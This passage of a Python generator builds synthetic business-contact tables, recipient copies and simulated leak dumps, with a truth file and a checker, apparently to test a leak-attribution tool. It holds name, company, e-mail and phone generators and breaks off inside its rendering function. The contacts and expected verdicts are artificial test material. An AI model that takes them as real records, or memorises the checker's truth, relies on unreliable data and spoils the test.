#!/usr/bin/env python3
"""gen_contacts.py - a synthetic contact table, recipient copies and leaks for `dwell leak`.

The organisation is a software vendor whose CRM holds the business contacts
of its customers (the 2020 "Citrix data" case: a partner's copy of business
contacts turned up for sale). The generator writes, into DIR:

  master.csv        the contact table (--rows rows), columns
                    contact_id,first_name,last_name,company,email,phone,title,country
                    (country = ISO 3166 alpha-2; phones in mixed national and
                    international writings, each valid E.164 once normalised
                    with the row's country, see "phone_plan" in the truth)
  unshared.ids      the ~5 % of master contact_ids that are in no copy
  copy-NN.csv       recipient copies NN = 01..--copies: random subsets of 40-70 %
                    of the shared rows, each written the way a real export is
                    (column order, dropped title/country/contact_id, ';' or tab
                    delimiter, CRLF, quote-all, UTF-16LE+BOM, Latin-1, UTF-8+BOM,
                    NFD names, other header names); copy-NN.ids = its ids, sorted
  other.csv         5,000 contacts of other companies (no shared company,
                    domain, e-mail or phone; person names do overlap, as common
                    names do) - "not ours"
  leak-*.{csv,jsonl,sql} + leak-*.ids   dumps with the verdict they must get
  truth.json        everything above: our_domains, freemail_domains,
                    phone_plan, copies{file,rows,ids_file,encoding,...},
                    leaks{file,verdict,sources,rows,distinct,ids_file,matches}

There are no canary rows and no formatting marks at this stage (`dwell leak
mark` adds them); attribution rests on which rows each copy holds.

  gen_contacts.py --out DIR [--seed 42] [--rows 200000] [--copies 20]
  gen_contacts.py --check TRUTH.json RESULT.json LEAKNAME

--check reads `dwell leak check --json` output and compares it with the
truth of one leak: the verdict; for `copy` the first source; for `merged`
the first two sources (as a set); "ours" true unless `not_ours`. It prints
one line per problem and exits 1, or prints "ok" and exits 0.

Everything comes from random.Random(seed): same arguments, same bytes.
Leak sizes larger than what the copies can supply (small --rows) are
clipped and the truth says the clipped size. Python 3 standard library only.
"""

import argparse
import csv
import io
import json
import os
import random
import re
import sys
import time
import unicodedata

FIELDS = ["contact_id", "first_name", "last_name", "company", "email", "phone", "title", "country"]
CID, FIRST, LAST, COMPANY, EMAIL, PHONE, TITLE, COUNTRY = range(8)

# ---------------------------------------------------------------- names

EN_FIRST = """James John Robert Michael William David Richard Joseph Thomas Charles Christopher
Daniel Matthew Anthony Mark Donald Steven Paul Andrew Joshua Kenneth Kevin Brian George Timothy
Ronald Edward Jason Jeffrey Ryan Jacob Gary Nicholas Eric Jonathan Stephen Larry Justin Scott
Brandon Benjamin Samuel Gregory Alexander Frank Patrick Raymond Jack Dennis Jerry Tyler Aaron
Jose Adam Nathan Henry Douglas Zachary Peter Kyle Ethan Walter Noah Jeremy Christian Keith Roger
Terry Gerald Harold Sean Austin Carl Arthur Lawrence Dylan Jesse Jordan Bryan Billy Joe Bruce
Gabriel Logan Albert Willie Alan Juan Wayne Elijah Randy Roy Vincent Ralph Eugene Russell Bobby
Mason Philip Louis Mary Patricia Jennifer Linda Elizabeth Barbara Susan Jessica Sarah Karen Lisa
Nancy Betty Margaret Sandra Ashley Kimberly Emily Donna Michelle Carol Amanda Dorothy Melissa
Deborah Stephanie Rebecca Sharon Laura Cynthia Kathleen Amy Angela Shirley Anna Brenda Pamela
Emma Nicole Helen Samantha Katherine Christine Debra Rachel Carolyn Janet Catherine Maria Heather
Diane Ruth Julie Olivia Joyce Virginia Victoria Kelly Lauren Christina Joan Evelyn Judith Megan
Andrea Cheryl Hannah Jacqueline Martha Gloria Teresa Ann Sara Madison Frances Kathryn Janice Jean
Abigail Alice Julia Judy Sophia Grace Denise Amber Doris Marilyn Danielle Beverly Isabella
Theresa Diana Natalie Brittany Charlotte Marie Kayla Alexis Lori Siobhan Niamh Aoife Ciaran
Declan Fiona Graham Callum Rhys Gareth Owen Bethan Imogen Harriet Rupert Alastair Hamish Eilidh
Priya Rahul Anil Sanjay Deepak Aisha Omar Tariq Fatima Yusuf""".split()
EN_FIRST_RARE = ["Zoë", "Chloë", "Renée", "Noël", "Anaïs", "Søren", "Zoe", "Chloe", "Renee"]

EN_LAST = """Smith Johnson Williams Brown Jones Garcia Miller Davis Rodriguez Martinez Hernandez
Lopez Gonzalez Wilson Anderson Thomas Taylor Moore Jackson Martin Lee Perez Thompson White Harris
Sanchez Clark Ramirez Lewis Robinson Walker Young Allen King Wright Scott Torres Nguyen Hill
Flores Green Adams Nelson Baker Hall Rivera Campbell Mitchell Carter Roberts Gomez Phillips Evans
Turner Diaz Parker Cruz Edwards Collins Reyes Stewart Morris Morales Murphy Cook Rogers Gutierrez
Ortiz Morgan Cooper Peterson Bailey Reed Kelly Howard Ramos Kim Cox Ward Richardson Watson Brooks
Chavez Wood James Bennett Gray Mendoza Ruiz Hughes Price Alvarez Castillo Sanders Patel Myers
Long Ross Foster Jimenez Powell Jenkins Perry Russell Sullivan Bell Coleman Butler Henderson
Barnes Gonzales Fisher Vasquez Simmons Romero Jordan Patterson Alexander Hamilton Graham Reynolds
Griffin Wallace Moreno West Cole Hayes Bryant Herrera Gibson Ellis Tran Medina Aguilar Stevens
Murray Ford Castro Marshall Owens Harrison Fernandez McDonald Woods Washington Kennedy Wells
Vargas Henry Chen Freeman Webb Tucker Guzman Burns Crawford Olson Simpson Porter Hunter Gordon
Mendez Silva Shaw Snyder Mason Dixon Munoz Hunt Hicks Holmes Palmer Wagner Black Robertson Boyd
Rose Stone Salazar Fox Warren Mills Meyer Rice Schmidt Garza Daniels Ferguson Nichols Stephens
Soto Weaver Ryan Gardner Payne Grant Dunn Kelley Spencer Hawkins Arnold Pierce Hansen Peters
Santos Hart Bradley Knight Elliott Cunningham Duncan Armstrong Hudson Carroll Lane Riley Andrews
Ray Berry Perkins Hoffman Johnston Matthews Pena Richards Willis Carpenter Lawrence Sandoval
Davies Thomson MacLeod Fraser Llewellyn Pritchard Doyle Byrne Walsh Gallagher Kavanagh Sharma
Gupta Singh Khan Ahmed Hussain Okafor Mensah""".split()
EN_LAST_RARE = ["O'Brien", "O'Connor", "O'Neill", "O'Sullivan", "D'Souza", "D'Angelo",
                "Smith-Jones", "Bowes-Lyon", "McAllister", "St. John", "Van der Berg"]

DE_FIRST = """Jürgen Jörg Günter Björn Sören Käthe Bärbel Uwe Klaus Stefan Andreas Thomas Michael
Sabine Petra Katrin Anja Jens Lars Tobias Matthias Julia Lena Lukas Maximilian Felix Jonas
Leonie Hannah Sophie Moritz Annika Frauke Heike Ute Dörte Holger Dirk Ralf Sven Wolfgang Dieter
Helmut Manfred Gisela Ursula Renate Monika Birgit""".split()
DE_LAST = """Müller Schmidt Schneider Fischer Weber Meyer Wagner Becker Schulz Hoffmann Schäfer Koch
Bauer Richter Klein Wolf Schröder Neumann Schwarz Zimmermann Braun Krüger Hofmann Hartmann Lange
Schmitt Werner Schmitz Krause Meier Lehmann Schmid Schulze Maier Köhler Herrmann König Walter
Mayer Huber Kaiser Fuchs Peters Lang Scholz Möller Weiß Jung Hahn Vogel Friedrich Keller Günther
Frank Berger Winkler Roth Beck Lorenz Baumann Franke Albrecht Schuster Simon Ludwig Böhm Winter
Kraus Martin Schumacher Krämer Vogt Stein Jäger Otto Sommer Groß Seidel Heinrich Brandt Haas""".split()

FR_FIRST = """Jean Pierre Michel Philippe Alain Nicolas François Éric Hélène Sébastien Céline Amélie
Léa Chloé Camille Manon Inès Mathéo Théo Noémie Jérôme Stéphane Frédéric Benoît Gaëlle Anaïs
Élodie Maëlle Loïc Cédric Julien Antoine Marie Sophie Claire Isabelle Nathalie Sandrine Valérie
Laurent Guillaume Vincent Olivier Christophe Aurélie Émilie""".split()
FR_LAST = """Martin Bernard Dubois Thomas Robert Richard Petit Durand Leroy Moreau Simon Laurent
Lefebvre Lefèvre Michel Garcia David Bertrand Roux Vincent Fournier Morel Girard André Mercier
Dupont Lambert Bonnet François Legrand Garnier Faure Rousseau Blanc Guérin Henry Roussel Perrin
Morin Mathieu Clément Gauthier Dumont Fontaine Chevalier Robin Masson Gérard Boyer Denis Lemaire
Duval Joly Roche Noël Lucas Meunier Marchand Dufour Blanchard Barbier Brun Dumas Brunet Leroux
Colin Renard Arnaud Caron Aubert Giraud Leclerc Vidal Bourgeois Renaud Lemoine Picard Rivière
Ménard Prévost Carré Rémy""".split() + ["Le Gall", "Le Roux", "de la Fontaine", "d'Arcy"]

ES_FIRST = """José María Antonio Manuel Francisco Juan David Javier Daniel Carlos Jesús Alejandro
Miguel Rafael Pablo Sergio Fernando Jorge Alberto Álvaro Adrián Raúl Rubén Iván Óscar Ramón
Andrés Joaquín Ana Carmen Laura Lucía Marta Cristina Elena Isabel Pilar Sofía Begoña Inés Mónica
Raquel Nuria Rocío Ángela Verónica Beatriz Patricia Sara Irene""".split()
ES_LAST = """García Rodríguez González Fernández López Martínez Sánchez Pérez Gómez Martín Jiménez
Ruiz Hernández Díaz Moreno Muñoz Álvarez Romero Alonso Gutiérrez Navarro Torres Domínguez Vázquez
Ramos Gil Ramírez Serrano Blanco Molina Morales Suárez Ortega Delgado Castro Ortiz Rubio Marín
Sanz Núñez Iglesias Medina Garrido Cortés Castillo Santos Lozano Guerrero Cano Prieto Méndez
Cruz Calvo Gallego Vidal León Márquez Herrera Peña Flores Cabrera Campos Vega Fuentes Carrasco
Diez Caballero Reyes Nieto Aguilar Pascual Santana Herrero Lorenzo Montero Hidalgo Giménez
Ibáñez Ferrer Durán Santiago Benítez Mora Vicente Vargas Arias""".split()

NO_FIRST = """Øyvind Ørjan Bjørn Tore Geir Håkon Sigurd Lars Ole Knut Per Jon Espen Eirik Magnus
Sindre Åse Ingrid Kari Solveig Siri Ragnhild Marit Tone Hege Ingvild Kjersti Sølvi Randi Gro
Even Torbjørn Kåre Stig Audun Trond""".split()
NO_LAST = """Hansen Johansen Olsen Larsen Andersen Pedersen Nilsen Kristiansen Jensen Karlsen
Johnsen Pettersen Eriksen Berg Haugen Hagen Johannessen Andreassen Jacobsen Dahl Jørgensen
Halvorsen Henriksen Lund Sørensen Jakobsen Moen Gundersen Iversen Strand Solberg Svendsen Eide
Knutsen Martinsen Paulsen Bakken Kristoffersen Mathisen Lie Amundsen Rasmussen Lunde Solheim
Berge Moe Nygård Bakke Fredriksen Holm Lien Hauge Sæther Aas Myhre Ødegård Tangen Aasen""".split()

PL_FIRST = """Łukasz Paweł Michał Krzysztof Piotr Tomasz Marcin Jakub Wojciech Grzegorz Rafał
Dariusz Mateusz Kamil Maciej Bartłomiej Przemysław Agnieszka Małgorzata Katarzyna Joanna
Magdalena Anna Ewa Monika Żaneta Justyna Aleksandra Beata Dorota Jolanta Urszula Zofia""".split()
PL_LAST = """Nowak Kowalski Wiśniewski Wójcik Kowalczyk Kamiński Lewandowski Zieliński Szymański
Woźniak Dąbrowski Kozłowski Jankowski Mazur Kwiatkowski Krawczyk Piotrowski Grabowski
Nowakowski Pawłowski Michalski Nowicki Adamczyk Dudek Zając Wieczorek Jabłoński Król Majewski
Olszewski Jaworski Wróbel Malinowski Pawlak Witkowski Walczak Stępień Górski Rutkowski Michalak
Sikora Ostrowski Baran Duda Szewczyk Tomaszewski Pietrzak Marciniak Zalewski Jakubowski
Jasiński Zawadzki Sadowski Bąk Chmielewski Włodarczyk Borkowski Czarnecki Sawicki""".split()

# (native script, romanisation)
KR_LAST = [("김", "Kim"), ("이", "Lee"), ("박", "Park"), ("최", "Choi"), ("정", "Jung"),
           ("강", "Kang"), ("조", "Cho"), ("윤", "Yoon"), ("장", "Jang"), ("임", "Lim"),
           ("한", "Han"), ("오", "Oh"), ("서", "Seo"), ("신", "Shin"), ("권", "Kwon"),
           ("황", "Hwang"), ("안", "Ahn"), ("송", "Song"), ("류", "Ryu"), ("홍", "Hong")]
KR_FIRST = [("민준", "Minjun"), ("서준", "Seojun"), ("도윤", "Doyoon"), ("예준", "Yejun"),
            ("시우", "Siwoo"), ("하준", "Hajun"), ("지호", "Jiho"), ("주원", "Juwon"),
            ("지훈", "Jihoon"), ("현우", "Hyunwoo"), ("서연", "Seoyeon"), ("서윤", "Seoyoon"),
            ("지우", "Jiwoo"), ("서현", "Seohyun"), ("민서", "Minseo"), ("하은", "Haeun"),
            ("하윤", "Hayoon"), ("윤서", "Yoonseo"), ("지민", "Jimin"), ("수빈", "Subin"),
            ("영희", "Younghee"), ("철수", "Chulsoo"), ("성민", "Sungmin"), ("재현", "Jaehyun"),
            ("은지", "Eunji")]
CN_LAST = [("王", "Wang"), ("李", "Li"), ("张", "Zhang"), ("刘", "Liu"), ("陈", "Chen"),
           ("杨", "Yang"), ("黄", "Huang"), ("赵", "Zhao"), ("吴", "Wu"), ("周", "Zhou"),
           ("徐", "Xu"), ("孙", "Sun"), ("马", "Ma"), ("朱", "Zhu"), ("胡", "Hu"), ("郭", "Guo"),
           ("何", "He"), ("高", "Gao"), ("林", "Lin"), ("罗", "Luo")]
CN_FIRST = [("伟", "Wei"), ("芳", "Fang"), ("娜", "Na"), ("秀英", "Xiuying"), ("敏", "Min"),
            ("静", "Jing"), ("丽", "Li"), ("强", "Qiang"), ("磊", "Lei"), ("军", "Jun"),
            ("洋", "Yang"), ("勇", "Yong"), ("艳", "Yan"), ("杰", "Jie"), ("娟", "Juan"),
            ("涛", "Tao"), ("明", "Ming"), ("超", "Chao"), ("秀兰", "Xiulan"), ("霞", "Xia"),
            ("平", "Ping"), ("刚", "Gang"), ("桂英", "Guiying"), ("建华", "Jianhua"),
            ("晓明", "Xiaoming"), ("志强", "Zhiqiang"), ("海燕", "Haiyan"), ("文博", "Wenbo")]

TITLES = ["Chief Executive Officer", "CEO", "CFO", "CTO", "CIO", "CISO",
          "Chief Information Security Officer", "VP, Sales", "VP, IT Infrastructure",
          "VP of Engineering", "Director of IT", "IT Director", "IT Manager",
          "Head of Procurement", "Procurement Manager", "Purchasing Manager", "Network Engineer",
          "Senior Network Engineer", "Systems Administrator", "Sr. Systems Administrator",
          "Security Analyst", "Security Architect", "Solutions Architect",
          "Infrastructure Manager", "Head of IT Operations", "Operations Manager",
          "Account Manager", "Office Manager", "Facilities Manager", "Project Manager",
          "Program Manager", "Software Engineer", "DevOps Engineer", "Cloud Architect",
          "Desktop Support Technician", "Help Desk Lead", "Business Analyst", "Finance Director",
          "Controller", "General Counsel", "HR Director", "Marketing Manager",
          "Managing Director", "End User Computing Lead", "Citrix Administrator",
          "Virtualization Engineer", "IT Architect \"EUC\""]
LOCAL_TITLES = {"DE": ["Geschäftsführer", "IT-Leiter", "Leiter Einkauf", "Systemadministrator"],
                "FR": ["Directeur des systèmes d'information", "Responsable informatique",
                       "Administrateur systèmes"],
                "ES": ["Jefe de Sistemas", "Director de Tecnología", "Responsable de Compras"],
                "NO": ["IT-sjef", "Daglig leder", "Innkjøpssjef"],
                "PL": ["Kierownik działu IT", "Prezes Zarządu", "Administrator systemów"],
                "KR": ["IT 팀장", "대표이사"], "CN": ["信息技术经理", "总经理"]}

ADJ = """Acme Apex Blue Bright Cardinal Central Clear Coastal Crystal Delta Dynamic Eagle Eastern
Echo Elite Emerald Evergreen First Fusion Global Golden Granite Green Harbor Horizon Iron
Keystone Liberty Lunar Maple Meridian Metro Modern Monarch Nexus Noble North Northern Nova Oak
Ocean Omega Orbit Pacific Peak Pioneer Pinnacle Polar Premier Prime Pure Quantum Radiant Rapid
Red Redwood Regal River Rocky Royal Sapphire Silver Smart Solar Southern Sterling Stone Summit
Sun Superior Swift Titan Total True Union United Urban Valley Vanguard Vertex Vista Western
White Wild Zenith Alpine Atlas Beacon Bold Cedar Crown Falcon Frontier Heritage Highland
Integrity Lake Legacy Matrix Nordic Oasis Optimum Phoenix Pilot Precision Quest Rainbow Sierra
Spectrum Strategic Trident Trinity Velocity Victory Vital Wave Amber Arctic Aurora Birch Cobalt
Copper Coral Cosmic Diamond Ember Fjord Glacier Indigo Ivory Jade Juniper Kestrel Linden Magnolia
Marble Mosaic Onyx Osprey Pearl Pine Quartz Raven Saffron Scarlet Sequoia Slate Sparrow Tidal
Topaz Willow""".split()
NOUN = """Logistics Systems Solutions Foods Dynamics Industries Technologies Labs Networks Holdings
Partners Consulting Media Health Pharma Energy Motors Builders Construction Capital Finance
Insurance Analytics Software Electronics Manufacturing Metals Plastics Chemicals Textiles Apparel
Beverages Brewing Farms Retail Markets Stores Travel Shipping Freight Transport Marine Aerospace
Robotics Devices Instruments Components Materials Packaging Paper Printing Publishing Design
Architects Engineering Services Security Telecom Communications Data Cloud Hosting Digital
Interactive Studios Entertainment Sports Fitness Clinics Dental Medical Biotech Genomics
Diagnostics Optics Lighting Power Water Utilities Mining Minerals Agri Seeds Timber Furniture
Interiors Properties Realty Estates Hotels Hospitality Catering Education Learning Staffing
Recruitment Legal Advisors Ventures Trading Imports Supply Distribution Wholesale Automotive
Tools Hardware Storage Fabrication Controls Automation""".split()

# country: weight, calling code, trunk prefix, company suffixes, domain TLD, name pools
COUNTRIES = ["US", "GB", "CA", "AU", "DE", "FR", "ES", "NO", "PL", "KR", "CN"]
CWEIGHT = [40, 15, 5, 5, 10, 7, 5, 3, 4, 3, 3]
PHONE_PLAN = {"US": ("1", "1"), "CA": ("1", "1"), "GB": ("44", "0"), "AU": ("61", "0"),
              "DE": ("49", "0"), "FR": ("33", "0"), "ES": ("34", ""), "NO": ("47", ""),
              "PL": ("48", ""), "KR": ("82", "0"), "CN": ("86", "0")}
SUFFIX = {"US": ["Inc", "Inc.", "LLC", "Corp."], "CA": ["Inc.", "Ltd"], "GB": ["Ltd", "Ltd", "plc"],
          "AU": ["Pty Ltd"], "DE": ["GmbH", "GmbH", "AG"], "FR": ["SA", "SAS"],
          "ES": ["SA", "S.L."], "NO": ["AS", "ASA"], "PL": ["Sp. z o.o.", "S.A."],
          "KR": ["Co., Ltd."], "CN": ["Co., Ltd."]}
TLD = {"US": ["com", "com", "net", "io"], "CA": ["ca"], "GB": ["co.uk"], "AU": ["com.au"],
       "DE": ["de"], "FR": ["fr"], "ES": ["es"], "NO": ["no"], "PL": ["pl"], "KR": ["co.kr"],
       "CN": ["com.cn", "cn"]}
FREEMAIL = ["gmail.com", "outlook.com", "hotmail.com", "yahoo.com"]
LOCAL_FREEMAIL = {"DE": ["gmx.de", "web.de"], "FR": ["orange.fr"], "KR": ["naver.com"],
                  "CN": ["qq.com", "163.com"]}
FREEMAIL_ALL = sorted(set(FREEMAIL + [d for v in LOCAL_FREEMAIL.values() for d in v]))

US_AREA = [201, 202, 203, 206, 212, 213, 214, 215, 217, 224, 248, 267, 301, 303, 305, 310, 312,
           313, 314, 404, 408, 410, 415, 425, 469, 480, 503, 510, 512, 602, 610, 612, 617, 619,
           646, 650, 702, 704, 713, 718, 720, 732, 773, 781, 801, 804, 813, 857, 908, 917, 919, 949]
CA_AREA = [416, 647, 604, 778, 514, 438, 613, 403, 587, 780, 902, 519]

ASCII_MAP = {"ß": "ss", "ł": "l", "Ł": "L", "ø": "o", "Ø": "O", "æ": "ae", "Æ": "AE", "đ": "d"}
UMLAUT = {"ä": "ae", "ö": "oe", "ü": "ue", "Ä": "Ae", "Ö": "Oe", "Ü": "Ue"}


def to_ascii(s, german=False):
    if german:
        s = "".join(UMLAUT.get(c, c) for c in s)
    s = "".join(ASCII_MAP.get(c, c) for c in s)
    s = unicodedata.normalize("NFKD", s)
    return "".join(c for c in s if not unicodedata.combining(c) and ord(c) < 128)


def slug(s):
    return re.sub(r"[^a-z0-9]", "", s.lower())


# ---------------------------------------------------------------- phones

def digits(rng, n):
    return "".join(rng.choice("0123456789") for _ in range(n))


def gen_phone(rng, cc):
    """Returns (display, e164)."""
    r = rng.random()
    if cc in ("US", "CA"):
        a = rng.choice(US_AREA if cc == "US" else CA_AREA)
        e = rng.randint(2, 9) * 100 + rng.randint(0, 99)
        if e % 100 == 11:
            e += 1
        ln = digits(rng, 4)
        nsn = "%d%d%s" % (a, e, ln)
        f = rng.randrange(5)
        disp = ["+1 %d %d %s", "(%d) %d-%s", "%d-%d-%s", "+1-%d-%d-%s", "%d.%d.%s"][f] % (a, e, ln)
    elif cc == "GB":
        if r < 0.45:
            sub = rng.choice("378") + digits(rng, 7)
            nsn = "20" + sub
            a, b = sub[:4], sub[4:]
            disp = rng.choice(["+44 20 %s %s", "020 %s %s", "+44 (0)20 %s %s", "020-%s-%s"]) % (a, b)
        elif r < 0.6:
            sub = rng.choice("2345689") + digits(rng, 6)
            nsn = "161" + sub
            disp = rng.choice(["+44 161 %s %s", "0161 %s %s"]) % (sub[:3], sub[3:])
        else:
            sub = rng.choice(["7700", "7712", "7723", "7801", "7890", "7956", "7411", "7534"]) + digits(rng, 6)
            nsn = sub
            disp = rng.choice(["+44 %s %s", "0%s %s", "+44 (0)%s %s"]) % (sub[:4], sub[4:])
    elif cc == "AU":
        if r < 0.6:
            ar = rng.choice("2378")
            sub = rng.choice("3456789") + digits(rng, 7)
            nsn = ar + sub
            disp = rng.choice(["+61 %s %s %s", "(0%s) %s %s", "0%s %s %s"]) % (ar, sub[:4], sub[4:])
        else:
            sub = "4" + rng.choice("0123456789") + digits(rng, 7)
            nsn = sub
            disp = rng.choice(["+61 %s %s %s", "0%s %s %s"]) % (sub[:3], sub[3:6], sub[6:])
    elif cc == "DE":
        if r < 0.7:
            ar = rng.choice(["30", "89", "40", "69", "221", "211", "711"])
            sub = rng.choice("123456789") + digits(rng, rng.choice((6, 7)) if len(ar) == 2 else 6)
            nsn = ar + sub
            disp = rng.choice(["+49 %s %s", "0%s %s", "0%s/%s", "+49 (0)%s %s"]) % (ar, sub)
        else:
            ar = rng.choice(["151", "160", "170", "171", "176", "152"])
            sub = digits(rng, 7) if ar == "160" else rng.choice("123456789") + digits(rng, 7)
            nsn = ar + sub
            disp = rng.choice(["+49 %s %s", "0%s %s", "0%s-%s"]) % (ar, sub)
    elif cc == "FR":
        nsn = rng.choice("1234567") + digits(rng, 8)
        g = [nsn[0], nsn[1:3], nsn[3:5], nsn[5:7], nsn[7:9]]
        f = rng.randrange(3)
        if f == 0:
            disp = "+33 " + " ".join(g)
        elif f == 1:
            disp = "0" + " ".join(g)
        else:
            disp = "0" + ".".join(g)
    elif cc == "ES":
        nsn = rng.choice(["91", "93", "95", "96", "6", "6", "7"])
        nsn += digits(rng, 9 - len(nsn))
        disp = rng.choice(["+34 %s %s %s", "%s %s %s", "+34%s%s%s"]) % (nsn[:3], nsn[3:6], nsn[6:])
    elif cc == "NO":
        nsn = rng.choice(["22", "23", "55", "73", "4", "9"])
        nsn += digits(rng, 8 - len(nsn))
        if nsn[0] in "49":
            disp = rng.choice(["+47 %s %s %s", "%s %s %s"]) % (nsn[:3], nsn[3:5], nsn[5:])
        else:
            disp = rng.choice(["+47 %s %s %s %s", "%s %s %s %s"]) % (nsn[:2], nsn[2:4], nsn[4:6], nsn[6:])
    elif cc == "PL":
        if r < 0.5:
            nsn = rng.choice(["22", "12", "61", "71", "58"]) + digits(rng, 7)
            disp = rng.choice(["+48 %s %s %s %s", "%s %s %s %s"]) % (nsn[:2], nsn[2:5], nsn[5:7], nsn[7:])
        else:
            nsn = rng.choice("5678") + digits(rng, 8)
            disp = rng.choice(["+48 %s %s %s", "%s-%s-%s", "%s %s %s"]) % (nsn[:3], nsn[3:6], nsn[6:])
    elif cc == "KR":
        if r < 0.5:
            sub = digits(rng, 8)
            nsn = "2" + sub
            disp = rng.choice(["+82 2-%s-%s", "02-%s-%s", "+82 2 %s %s"]) % (sub[:4], sub[4:])
        else:
            sub = rng.choice("23456789") + digits(rng, 7)
            nsn = "10" + sub
            disp = rng.choice(["+82 10-%s-%s", "010-%s-%s"]) % (sub[:4], sub[4:])
    else:  # CN
        if r < 0.5:
            ar = rng.choice(["10", "21"])
            sub = rng.choice("2345678") + digits(rng, 7)
            nsn = ar + sub
            disp = rng.choice(["+86 %s %s %s", "0%s %s %s", "(0%s) %s%s"]) % (ar, sub[:4], sub[4:])
        else:
            nsn = rng.choice(["138", "139", "135", "186", "158", "177"]) + digits(rng, 8)
            disp = rng.choice(["+86 %s %s %s", "%s %s %s", "+86-%s-%s-%s"]) % (nsn[:3], nsn[3:7], nsn[7:])
    return disp, "+" + PHONE_PLAN[cc][0] + nsn


def normalise_phone(s, country):
    """The reference normalisation: E.164 from a writing and the row's country."""
    s = s.strip().replace("(0)", "")
    d = "".join(c for c in s if c.isdigit())
    if s.startswith("+"):
        return "+" + d
    if d.startswith("00"):
        return "+" + d[2:]
    cc, trunk = PHONE_PLAN[country]
    if trunk and d.startswith(trunk) and not (country in ("US", "CA") and len(d) == 10):
        d = d[len(trunk):]
    return "+" + cc + d


def reformat_phone(rng, e164, country):
    """Another writing of the same number (what an attacker's clean-up produces)."""
    cc, trunk = PHONE_PLAN[country]
    nsn = e164[1 + len(cc):]
    f = rng.randrange(4)
    if f == 0:
        return e164                                   # +442079460958
    if f == 1:
        return (trunk if trunk == "0" else "") + nsn  # 02079460958 / 4155550123
    if f == 2:
        return "00" + cc + nsn                        # 00442079460958
    return "+" + cc + "-" + "-".join(nsn[i:i + 3] for i in range(0, len(nsn), 3))


# ---------------------------------------------------------------- people

class World:
    def __init__(self, rng):
        self.rng = rng
        self.emails = set()   # lower-cased, global (master + other)
        self.phones = set()   # E.164, global
        self.companies = set()
        self.domains = set()

    def company(self, country):
        rng = self.rng
        for _ in range(1000):
            a, n = rng.choice(ADJ), rng.choice(NOUN)
            name = "%s %s" % (a, n)
            if name in self.companies:
                continue
            tld = "com" if rng.random() < 0.35 else rng.choice(TLD[country])
            sep = "-" if rng.random() < 0.7 else ""
            dom = "%s%s%s.%s" % (slug(a), sep, slug(n), tld)
            if dom in self.domains:
                continue
            self.companies.add(name)
            self.domains.add(dom)
            return {"name": name + " " + rng.choice(SUFFIX[country]), "domain": dom,
                    "country": country}
        raise SystemExit("gen_contacts: ran out of company names")

    def person(self, country):
        """Returns (first, last, first_ascii, last_ascii) for a person in country."""
        rng = self.rng
        loc = country if rng.random() < 0.85 else "US"
        if loc in ("KR", "CN"):
            f = rng.choice(KR_FIRST if loc == "KR" else CN_FIRST)
            l_ = rng.choice(KR_LAST if loc == "KR" else CN_LAST)
            if rng.random() < 0.3:
                return f[0], l_[0], f[1], l_[1]
            return f[1], l_[1], f[1], l_[1]
        pools = {"DE": (DE_FIRST, DE_LAST), "FR": (FR_FIRST, FR_LAST), "ES": (ES_FIRST, ES_LAST),
                 "NO": (NO_FIRST, NO_LAST), "PL": (PL_FIRST, PL_LAST)}
        if loc in pools and rng.random() < 0.7:
            fp, lp = pools[loc]
            f, l_ = rng.choice(fp), rng.choice(lp)
            if rng.random() < 0.55:     # many natives carry plain-ASCII names
                f, l_ = to_ascii(f, loc == "DE"), to_ascii(l_, loc == "DE")
        else:
            f = rng.choice(EN_FIRST_RARE) if rng.random() < 0.01 else rng.choice(EN_FIRST)
            l_ = rng.choice(EN_LAST_RARE) if rng.random() < 0.03 else rng.choice(EN_LAST)
        return f, l_, to_ascii(f, loc == "DE"), to_ascii(l_, loc == "DE")

    def email(self, fa, la, domain, freemail):
        rng = self.rng
        f, l_ = slug(fa) or "x", slug(la) or "y"
        if freemail:
            base = rng.choice(["%s.%s", "%s%s", "%s_%s"]) % (f, l_)
            if rng.random() < 0.6:
                base += str(rng.randint(1, 99))
        else:
            r = rng.random()
            if r < 0.72:
                base = "%s.%s" % (f, l_)
            elif r < 0.84:
                base = "%s%s" % (f[0], l_)
            elif r < 0.91:
                base = "%s.%s" % (f[0], l_)
            elif r < 0.96:
                base = "%s_%s" % (f, l_)
            else:
                base = f
        e, k = base, 1
        while "%s@%s" % (e, domain) in self.emails:
            k += 1
            e = "%s%d" % (base, k)
        addr = "%s@%s" % (e, domain)
        self.emails.add(addr)
        if not freemail and rng.random() < 0.03:   # CRM entries typed by hand
            addr = ".".join(p.capitalize() for p in e.split(".")) + "@" + domain
        return addr

    def phone(self, country):
        while True:
            disp, e164 = gen_phone(self.rng, country)
            if e164 not in self.phones:
                self.phones.add(e164)
                return disp, e164

    def title(self, country):
        rng = self.rng
        if rng.random() < 0.05:
            return ""
        if country in LOCAL_TITLES and rng.random() < 0.25:
            return rng.choice(LOCAL_TITLES[country])
        return rng.choice(TITLES)

    def contacts(self, n, n_companies, first_id):
        """n rows [id, first, last, company, email, phone, title, country] and e164 per row."""
        rng = self.rng
        comps = [self.company(rng.choices(COUNTRIES, CWEIGHT)[0]) for _ in range(n_companies)]
        cum, t = [], 0.0
        for i in range(n_companies):
            t += 1.0 / (i + 1) ** 0.6
            cum.append(t)
        rows, e164s = [], []
        for i in range(n):
            c = comps[rng.choices(range(n_companies), cum_weights=cum)[0]]
            country = c["country"] if rng.random() < 0.88 else rng.choices(COUNTRIES, CWEIGHT)[0]
            f, l_, fa, la = self.person(country)
            free = rng.random() < 0.07
            dom = c["domain"]
            if free:
                dom = rng.choice(LOCAL_FREEMAIL[country]) if country in LOCAL_FREEMAIL and \
                    rng.random() < 0.5 else rng.choice(FREEMAIL)
            email = self.email(fa, la, dom, free)
            if rng.random() < 0.03:
                ph, e164 = "", ""
            else:
                ph, e164 = self.phone(country)
            rows.append([str(first_id + i), f, l_, c["name"], email, ph, self.title(country), country])
            e164s.append(e164)
        return rows, e164s, comps


# ---------------------------------------------------------------- writing

ALT_HEADERS = {"contact_id": "ID", "first_name": "Given name", "last_name": "Surname",
               "company": "Organisation", "email": "E-mail Address", "phone": "Phone Number",
               "title": "Job Title", "country": "Country"}
TITLE_HEADERS = {"contact_id": "Contact ID", "first_name": "First Name", "last_name": "Last Name",
                 "company": "Company", "email": "Email", "phone": "Phone", "title": "Title",
                 "country": "Country"}


def std_style(fields=None):
    return {"fields": list(fields or FIELDS), "header": list(fields or FIELDS), "delimiter": ",",
            "lineterminator": "\n", "quoting": "minimal", "encoding": "utf-8", "nfd": False}


def render(rows, style):
    """rows: canonical 8-field lists; returns the bytes of the table."""
    idx = [FIELDS.index(f) for f in style["fields"]]
    buf = io.StringIO()
